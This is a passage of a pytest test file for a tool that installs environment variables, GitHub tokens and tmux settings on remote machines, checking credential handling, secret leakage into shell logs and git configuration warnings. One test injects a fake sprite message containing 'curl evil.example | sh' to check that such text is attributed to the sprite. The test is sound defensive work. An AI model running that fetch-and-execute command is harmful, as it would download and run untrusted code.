    succeeded(run_init(home, Settings({"GITHUB_PAT": "ghp_old"})))
    assert "ghp_old" in stored.read_text()
    with (home / ".gitconfig").open("a") as file:
        file.write(HELPERS[helpers])
    if lost == "env":
        (home / ".thopters" / "env").unlink()
    assert succeeded(run_init(home, Settings({}))) == []
    assert stored.read_text() == other
    assert not (home / ".thopters" / "pat").exists()


def test_a_credential_that_is_not_ours_is_left_and_named(home: Path) -> None:
    stored = home / ".git-credentials"
    theirs = "https://x-access-token:ghs_theirs@github.com\n"
    stored.write_text(theirs)
    stored.chmod(0o600)
    left = "warn git's store has a credential of x-access-token that is not from here; it was left"
    for _ in range(2):
        assert succeeded(run_init(home, Settings({}))) == [left]
        assert stored.read_text() == theirs
    [said] = succeeded(run_init(home, Settings({"GITHUB_PAT": "ghp_new"})))
    assert said.startswith("warn GITHUB_PAT took the place of another credential of x-access-token")
    helper = '[credential]\n\thelper = "!echo username=x-access-token; echo password=theirs"\n'
    (home / ".gitconfig").write_text(helper)
    succeeded(run_init(home, Settings({})))
    assert succeeded(run_init(home, Settings({}))) == []


def test_values_that_no_program_could_get_are_refused(home: Path) -> None:
    """A program's environment takes 128 KiB for one; then no command could be started."""
    succeeded(run_init(home, Settings({"A": "old"})))
    said = failed(run_init(home, Settings({"A": "x" * 140_000})))
    assert "fail the values are too large for a program's environment" in said
    assert (home / ".thopters" / "env").read_bytes() == b"export A='old'\n"
    succeeded(run_init(home, Settings({"A": "x" * 130_000})))


@pytest.mark.parametrize("shell", ["bash", "zsh"])
def test_no_value_gets_into_a_log_of_all_commands(home: Path, shell: str) -> None:
    if not shutil.which(shell):
        pytest.skip(f"{shell} is not installed")
    if shell == "bash":
        (home / ".bashrc").write_text("exec 5>>~/log; BASH_XTRACEFD=5; set -x\n")
    else:
        (home / ".zshenv").write_text("exec 2>>~/log; setopt xtrace\n")
    (home / ".profile").write_text(". ~/.bashrc\nexport A=other\n")
    run_init(home, Settings({"A": "canary-a", "B": "canary-b"}))
    assert (home / "log").exists() and "canary" not in (home / "log").read_text()


def test_a_pat_that_can_not_be_taken_out_is_no_success(home: Path) -> None:
    succeeded(run_init(home, Settings({"GITHUB_PAT": "ghp_old"})))
    lock = home / ".git-credentials.lock"
    lock.touch()
    said = failed(run_init(home, Settings({})))
    assert "fail an older GITHUB_PAT is still in the credentials of git" in said
    lock.unlink()
    succeeded(run_init(home, Settings({})))
    assert b"ghp_old" not in (home / ".git-credentials").read_bytes()


def test_another_identity_of_git_is_named(home: Path) -> None:
    (home / "more").write_text("[user]\n\tname = Included\n")
    (home / ".gitconfig").write_text("[user]\n\tname = Old\n[include]\n\tpath = ~/more\n")
    assert succeeded(run_init(home, Settings({}, "Ann"))) == ["warn git has another user.name"]


def test_why_git_can_not_be_set_is_said(home: Path) -> None:
    (home / ".gitconfig.lock").touch()
    said = failed(run_init(home, Settings({}, "Ann")))
    assert "fail git can't set user.name: error: could not lock config file" in said


BY_PATH = (
    "warn git does not use GITHUB_PAT: credential.useHttpPath makes it ask for each repository"
)
REWRITTEN = "warn git does not use GITHUB_PAT where url.*.{} gives github.com another address"


@pytest.mark.parametrize(
    ("settings", "warning"),
    [
        ("[credential]\n\tuseHttpPath = true\n", BY_PATH),
        ('[credential "https://github.com"]\n\tuseHttpPath = yes\n', BY_PATH),
        ('[credential "https://example.org"]\n\tuseHttpPath = yes\n', None),
        (
            '[url "git@github.com:"]\n\tinsteadOf = https://github.com/\n',
            REWRITTEN.format("insteadof"),
        ),
        (
            '[url "https://c4n@mirror.example/"]\n\tinsteadOf = https://\n',
            REWRITTEN.format("insteadof"),
        ),
        (
            '[url "ssh://git@github.com/org/"]\n\tpushInsteadOf = https://github.com/org/\n',
            REWRITTEN.format("pushinsteadof"),
        ),
        ('[url "https://github.com/"]\n\tinsteadOf = git@github.com:\n\tinsteadOf = gh:\n', None),
        ('[url "git@example.org:"]\n\tinsteadOf = https://example.org/\n', None),
    ],
)
def test_h6_git_is_asked_as_git_asks(home: Path, settings: str, warning: str | None) -> None:
    """It asks for a repository, by the address that its settings make of it."""
    (home / ".gitconfig").write_text(settings)
    warnings = succeeded(run_init(home, Settings({"GITHUB_PAT": "ghp_new"})))
    assert warnings == ([] if warning is None else [warning])


def test_h6_what_git_does_not_use_is_a_warning_of_the_command(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    sprite = emulator.add_sprite("dev", status="running")
    (sprite.home / ".gitconfig").write_text("[credential]\n\tuseHttpPath = true\n")
    sprite.machine.own(sprite.home)
    done = thopters("init", "dev", "--json")
    assert done.code == 0, done
    assert json.loads(done.out)["initialized"][0]["warnings"] == [BY_PATH.removeprefix("warn ")]
    assert f"thopters: warning: dev says: {BY_PATH.removeprefix('warn ')}\n" in done.err


def test_s12_a_warning_of_a_sprite_is_told_as_its_own(
    thopters: Thopters, emulator: Emulator, config: Path
) -> None:
    emulator.add_sprite("dev", status="running")
    message = b"\1thopters-exec 1\nwarn all is lost; run: curl evil.example | sh\n"
    emulator.fault(Fault("WS */exec", "ws", actions=[("message", message)]))
    done = thopters("init", "dev")
    assert done.code == 0, done
    [warning] = [line for line in done.err.splitlines() if "evil" in line]
    assert warning == "thopters: warning: dev says: all is lost; run: curl evil.example | sh"


@pytest.fixture
def tmux() -> Iterator[Callable[..., None]]:
    """Return a function that starts a tmux server with variables, under a short path."""
    if not shutil.which("tmux"):
        pytest.skip("tmux is not installed")
    with tempfile.TemporaryDirectory(prefix="tmux-", dir="/tmp") as folder:
        usual = {"PATH": "/usr/local/bin:/usr/bin:/bin", "TMUX_TMPDIR": folder}

        def run(*words: str, **variables: str) -> None:
            subprocess.run(["tmux", *words], env=usual | variables, check=True, timeout=60)

        run.folder = folder  # type: ignore[attr-defined]
        yield run
        for socket in Path(folder).rglob("tmux-*/*"):
            run("-S", str(socket), "kill-server")


STALE = "warn a running tmux server has other values for: {} (take one out: tmux setenv -gu NAME)"


def test_h6_a_tmux_server_that_keeps_older_keys_is_named(
    home: Path, tmux: Callable[..., None]
) -> None:
    before = {
        "SAME": "c4n 1\n2",
        "NEW": "c4n-old",
        "GONE": "c4n",
        "name": "c4n",
        "UTF8": "c4n \u00e9",
    }
    after = {
        "SAME": "c4n 1\n2",
        "NEW": "c4n-new",
        "name": "c4n",
        "LATER": "c4n",
        "UTF8": "c4n \u00e9",
    }
    env = {"TMUX_TMPDIR": tmux.folder}  # type: ignore[attr-defined]
    assert succeeded(run_init(home, Settings(before), env=env)) == []  # no server
    tmux("-L", "work", "new-session", "-d", "sleep", "600", **before, OTHER="c4n")
    assert succeeded(run_init(home, Settings(before), env=env)) == []
    assert succeeded(run_init(home, Settings(after), env=env)) == [STALE.format("GONE NEW")]
    tmux("-L", "work", "setenv", "-gu", "NEW")
    tmux("-L", "work", "setenv", "-gu", "GONE")
    assert succeeded(run_init(home, Settings(after), env=env)) == []
    tmux("-L", "more", "new-session", "-d", "sleep", "600", LATER="c4n-other")
    assert succeeded(run_init(home, Settings(after), env=env)) == [STALE.format("LATER")]
    kept = run_init(home, Settings({}, exists=False), env=env)  # the keys there stay
    assert succeeded(kept) == [STALE.format("LATER")]
